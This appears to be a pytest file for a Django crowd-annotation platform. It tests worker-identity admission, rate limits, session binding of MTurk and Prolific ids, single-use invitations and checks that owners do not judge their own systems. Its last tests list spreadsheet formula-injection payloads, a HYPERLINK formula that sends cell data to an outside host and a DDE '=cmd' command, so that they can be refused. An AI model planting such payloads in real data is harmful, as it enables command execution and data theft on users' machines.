"""Honest crowd identities on a start link: the generic `?worker=` entry is a campaign's
choice, new identities are rate-limited, platform ids are bound to their session,
invitation links admit one person each, and owners never judge their own systems."""

import dataclasses
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import reverse

from annotation.entry import SESSION_KEY
from annotation.invitations import create_invitations
from annotation.items import add_items
from annotation.models import Assignment, Campaign, Invitation, Worker
from tests import factories
from tests.annotation.builders import ab_campaign, ab_spec, campaign

pytestmark = pytest.mark.django_db

# Ids in the platforms' formats (Prolific: 24 hexadecimal digits).
PID = "5f1e2d3c4b5a69788796a5b4"
STUDY = "60aa11bb22cc33dd44ee55ff"
SESSION = "61ab12bc23cd34de45ef5601"


def start(client, c, **params):
    return client.get(f"{reverse('annotation:start', args=[c.slug])}?{urlencode(params)}")


# The generic ?worker= entry ------------------------------------------------------------------


def test_worker_ids_are_refused_unless_the_campaign_takes_them(client):
    c = ab_campaign(4, batch_size=2, allow_worker_param=False)
    refused = start(client, c, worker="invented")
    assert refused.status_code == 403
    assert "does not take ?worker= ids" in refused.content.decode()
    assert not Worker.objects.exists()
    assert not Assignment.objects.filter(worker__isnull=False).exists()
    assert SESSION_KEY not in client.session


def test_a_campaign_that_takes_worker_ids_gives_them_work(client):
    c = ab_campaign(4, batch_size=2, allow_worker_param=True)
    response = start(client, c, worker="w1")
    assignment = Assignment.objects.get(worker__external_id="link:w1")
    assert response["Location"] == assignment.get_absolute_url()


def test_the_switch_is_off_for_a_new_campaign():
    c = Campaign.objects.create(slug="plain", title="Plain", task_kind="ab")
    c.refresh_from_db()
    assert c.allow_worker_param is False


# New identities are rate-limited -------------------------------------------------------------


def test_invented_ids_from_one_address_are_refused_after_the_limit(settings):
    settings.EVALHUB_NEW_WORKERS_PER_ADDRESS_PER_HOUR = 3
    c = ab_campaign(30, batch_size=1, redundancy=1)
    answers = [start(Client(), c, worker=f"bot{n}") for n in range(10)]
    assert [a.status_code for a in answers] == [302] * 3 + [429] * 7
    assert "Too many new participants" in answers[-1].content.decode()
    assert Worker.objects.count() == 3
    assert Assignment.objects.filter(worker__isnull=False).count() == 3


def test_clients_behind_one_proxy_each_have_the_per_address_limit(settings):
    # A classroom's NAT and a researcher's home reach EvalHub through its HTTPS proxy.
    settings.EVALHUB_TRUSTED_PROXY_COUNT = 1
    settings.EVALHUB_NEW_WORKERS_PER_ADDRESS_PER_HOUR = 2
    c = ab_campaign(30, batch_size=1, redundancy=1)

    def via_proxy(address, worker):
        client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=address)
        return start(client, c, worker=worker).status_code

    assert [via_proxy("203.0.113.1", f"class{n}") for n in range(3)] == [302, 302, 429]
    assert [via_proxy("198.51.100.7", f"home{n}") for n in range(2)] == [302, 302]
    # What a client writes into X-Forwarded-For itself does not make it someone else.
    assert via_proxy("198.51.100.99, 203.0.113.1", "class-forged") == 429
    assert set(Worker.objects.values_list("external_id", flat=True)) == {
        "link:class0",
        "link:class1",
        "link:home0",
        "link:home1",
    }


def test_a_returning_worker_is_not_a_newcomer(settings, client):
    settings.EVALHUB_NEW_WORKERS_PER_ADDRESS_PER_HOUR = 1
    c = ab_campaign(4, batch_size=1, redundancy=1)
    first = start(client, c, worker="regular")
    assert first.status_code == 302
    assert start(Client(), c, worker="newcomer").status_code == 429
    # The same person, from another browser, comes back to their started batch.
    again = start(Client(), c, worker="regular")
    assert again.status_code == 302 and again["Location"] == first["Location"]


def test_a_campaign_takes_few_newcomers_per_minute_from_all_addresses(settings):
    settings.EVALHUB_NEW_WORKERS_PER_CAMPAIGN_PER_MINUTE = 2
    c = ab_campaign(10, batch_size=1, redundancy=1, provider="prolific")
    other = ab_campaign(10, batch_size=1, redundancy=1, provider="prolific")
    answers = [
        start(Client(REMOTE_ADDR=f"10.0.0.{n}"), c, PROLIFIC_PID=f"{n:024x}") for n in range(1, 5)
    ]
    assert [a.status_code for a in answers] == [302, 302, 429, 429]
    # Another campaign has its own allowance.
    assert start(Client(REMOTE_ADDR="10.0.0.9"), other, PROLIFIC_PID=f"{9:024x}").status_code == 302
    assert Worker.objects.count() == 3


def test_a_logged_in_account_is_not_limited_as_a_newcomer(settings, client):
    settings.EVALHUB_NEW_WORKERS_PER_ADDRESS_PER_HOUR = 0
    c = ab_campaign(4, batch_size=2)
    client.force_login(factories.user("ann"))
    assert start(client, c).status_code == 302
    assert Worker.objects.get().external_id == "user:ann"


# Platform identities are bound to their platform session ----------------------------------


def test_another_mturk_assignment_presenting_a_workers_id_gets_nothing(client):
    c = ab_campaign(4, batch_size=2, redundancy=2, provider="mturk")
    batch = c.batches.order_by("position").first()
    own = {"assignmentId": "ASG1", "hitId": "H1", "workerId": "AW1", "batch": batch.pk}
    start(client, c, **own)
    assignment = Assignment.objects.get(worker__external_id="AW1")
    intruder = Client()
    refused = start(intruder, c, **{**own, "assignmentId": "ASGOTHER"})
    assert refused.status_code == 403
    assert "another session" in refused.content.decode()
    assert SESSION_KEY not in intruder.session
    assert intruder.get(assignment.get_absolute_url()).status_code == 404
    done = reverse("annotation:done", args=[assignment.public_id])
    assert intruder.get(done).status_code == 404


def prolific_campaign():
    return ab_campaign(
        4,
        batch_size=2,
        provider="prolific",
        provider_config={"completion_code": "C0DE1234"},
    )


def test_a_participants_id_without_a_session_id_gets_neither_batch_nor_code(client):
    c = prolific_campaign()
    start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
    assignment = Assignment.objects.get(worker__external_id=PID)
    intruder = Client()
    refused = start(intruder, c, PROLIFIC_PID=PID, STUDY_ID=STUDY)
    assert refused.status_code == 403
    assert "another session" in refused.content.decode()
    assert SESSION_KEY not in intruder.session
    assert intruder.get(assignment.get_absolute_url()).status_code == 404
    # Nor once the participant has finished and holds a completion code.
    Assignment.objects.filter(pk=assignment.pk).update(
        status="submitted", completion_code="SECRET-CODE"
    )
    refused = start(intruder, c, PROLIFIC_PID=PID, STUDY_ID=STUDY)
    assert refused.status_code == 403
    assert "SECRET-CODE" not in refused.content.decode()


# Invitation links -----------------------------------------------------------------------------


def test_an_invitation_admits_the_first_browser_and_resumes_only_there(client):
    c = ab_campaign(4, batch_size=2, redundancy=1, allow_worker_param=False)
    invitation, _ = create_invitations(c, 2)
    first = start(client, c, invite=invitation.token)
    invitation.refresh_from_db()
    assignment = Assignment.objects.get(worker=invitation.worker)
    assert first["Location"] == assignment.get_absolute_url()
    assert invitation.used_at is not None
    # The same browser comes back to the same batch.
    assert start(client, c, invite=invitation.token)["Location"] == first["Location"]
    # Anyone else with the link gets a refusal, never the batch.
    other = Client()
    refused = start(other, c, invite=invitation.token)
    assert refused.status_code == 403
    assert "already been used" in refused.content.decode()
    assert SESSION_KEY not in other.session
    assert other.get(assignment.get_absolute_url()).status_code == 404
    assert Worker.objects.count() == 1


def test_an_unknown_invitation_is_refused(client):
    c = ab_campaign(2, allow_worker_param=False)
    other = ab_campaign(2)
    (elsewhere,) = create_invitations(other, 1)
    for token in ["nonsense", elsewhere.token]:
        response = start(client, c, invite=token)
        assert response.status_code == 404
        assert "not valid for this campaign" in response.content.decode()
    assert not Worker.objects.exists()


def test_invitations_are_made_in_a_range():
    c = ab_campaign(2)
    with pytest.raises(Exception, match="between 1 and 1000"):
        create_invitations(c, 0)
    assert len(create_invitations(c, 3)) == 3
    assert len({i.token for i in Invitation.objects.all()}) == 3


# A system's owner never judges items that show it ------------------------------------------


@pytest.fixture
def own_and_other_items():
    """A campaign of four one-item batches: two show `mine` (owned by "owner"), two do not."""
    owner = factories.user("owner")
    prompts = factories.prompt_set(2)
    mine = factories.submission(factories.system(owner, slug="mine"), prompts)
    theirs = factories.submission(factories.system(factories.user(), slug="theirs"), prompts)
    c = campaign("ab", batch_size=1, redundancy=1)
    specs = []
    for n, submission in enumerate([mine, mine, theirs, theirs]):
        response = submission.responses.order_by("pk")[n % 2]
        specs.append(dataclasses.replace(ab_spec(n), response_a_id=response.pk))
    add_items(c, specs)
    return c, owner, theirs


def shown_submission(assignment):
    return assignment.batch.items.get().response_a.submission


def test_an_owner_gets_only_items_without_their_system(client, own_and_other_items):
    c, owner, theirs = own_and_other_items
    client.force_login(owner)
    taken = []
    for _ in range(3):
        response = start(client, c)
        if response.status_code != 302:
            break
        assignment = Assignment.objects.get(worker__user=owner, status="started")
        taken.append(shown_submission(assignment))
        Assignment.objects.filter(pk=assignment.pk).update(status="submitted")
    assert taken == [theirs, theirs]
    assert response.status_code == 200
    assert "shows a system you own" in response.content.decode()


def test_an_owner_is_refused_a_campaign_that_shows_only_their_system(client):
    owner = factories.user("owner")
    submission = factories.submission(factories.system(owner), factories.prompt_set(2))
    c = campaign("ab", batch_size=1, redundancy=1)
    add_items(
        c,
        [
            dataclasses.replace(ab_spec(n), response_b_id=r.pk)
            for n, r in enumerate(submission.responses.all())
        ],
    )
    client.force_login(owner)
    page = start(client, c)
    assert "shows a system you own" in page.content.decode()
    assert not Assignment.objects.filter(worker__isnull=False).exists()


def test_an_owner_is_refused_under_another_identity_while_logged_in(client, own_and_other_items):
    c, owner, theirs = own_and_other_items
    client.force_login(owner)
    for _ in range(2):
        start(client, c, worker="disguise")
        assignment = Assignment.objects.get(worker__external_id="link:disguise", status="started")
        assert shown_submission(assignment) == theirs
        Assignment.objects.filter(pk=assignment.pk).update(status="submitted")
    assert "shows a system you own" in start(client, c, worker="disguise").content.decode()


def test_an_identity_linked_to_the_owner_is_refused_when_logged_out(own_and_other_items):
    c, owner, theirs = own_and_other_items
    Campaign.objects.filter(pk=c.pk).update(provider="mturk")
    Worker.objects.create(provider="mturk", external_id="AOWNER1", user=owner)
    anonymous = Client()
    for n in range(2):
        start(anonymous, c, workerId="AOWNER1", assignmentId=f"ASG{n}")
        assignment = Assignment.objects.get(worker__external_id="AOWNER1", status="started")
        assert shown_submission(assignment) == theirs
        Assignment.objects.filter(pk=assignment.pk).update(status="submitted")
    page = start(anonymous, c, workerId="AOWNER1", assignmentId="ASG9")
    assert "shows a system you own" in page.content.decode()


# Issue 23, findings 3 and 4: platform parameters only on their platform, in its format ------


def test_a_prolific_id_does_not_bypass_a_campaign_that_takes_no_worker_ids(client):
    c = ab_campaign(4, batch_size=2, allow_worker_param=False)
    assert start(client, c, worker="X").status_code == 403
    refused = start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
    assert refused.status_code == 400
    assert "not on Prolific" in refused.content.decode()
    assert not Worker.objects.exists()
    assert not Assignment.objects.filter(worker__isnull=False).exists()
    assert SESSION_KEY not in client.session


def test_a_prolific_id_is_refused_on_an_mturk_campaign(client):
    c = ab_campaign(4, batch_size=2, provider="mturk")
    refused = start(client, c, PROLIFIC_PID=PID)
    assert refused.status_code == 400
    assert not Worker.objects.exists()


def test_an_mturk_worker_id_is_refused_on_a_prolific_campaign(client):
    c = prolific_campaign()
    refused = start(client, c, workerId="A1B2C3D4E5F6G7", assignmentId="ASG1")
    assert refused.status_code == 400
    assert not Worker.objects.exists()


def test_a_prolific_participant_in_prolifics_format_gets_work(client):
    c = prolific_campaign()
    response = start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
    assignment = Assignment.objects.get(worker__external_id=PID)
    assert response["Location"] == assignment.get_absolute_url()
    assert assignment.provider_ref == SESSION


@pytest.mark.parametrize(
    "params",
    [
        {"PROLIFIC_PID": "@A1"},
        {"PROLIFIC_PID": "-1-1"},
        {"PROLIFIC_PID": PID, "SESSION_ID": '=HYPERLINK("http://x/?l="&A2,"open")'},
        {"PROLIFIC_PID": PID, "STUDY_ID": "=cmd|' /C calc'!A0"},
    ],
)
def test_prolific_ids_out_of_prolifics_format_are_refused(client, params):
    c = prolific_campaign()
    refused = start(client, c, **params)
    assert refused.status_code == 400
    assert "not a Prolific id" in refused.content.decode()
    assert not Worker.objects.exists()
    assert not Assignment.objects.exclude(provider_ref="").exists()


@pytest.mark.parametrize(
    "params",
    [
        {"workerId": "-1-1", "assignmentId": "ASG1"},
        {"workerId": "@A1", "assignmentId": "ASG1"},
        {"workerId": "A1B2C3D4E5F6G7", "assignmentId": "=cmd|' /C calc'!A0"},
        {"workerId": "A1B2C3D4E5F6G7", "assignmentId": "ASG1", "hitId": "+1+1"},
    ],
)
def test_mturk_ids_out_of_mturks_format_are_refused(client, params):
    c = ab_campaign(4, batch_size=2, provider="mturk")
    refused = start(client, c, **params)
    assert refused.status_code == 400
    assert "not an MTurk" in refused.content.decode()
    assert not Worker.objects.exists()
    assert not Assignment.objects.exclude(provider_ref="").exists()
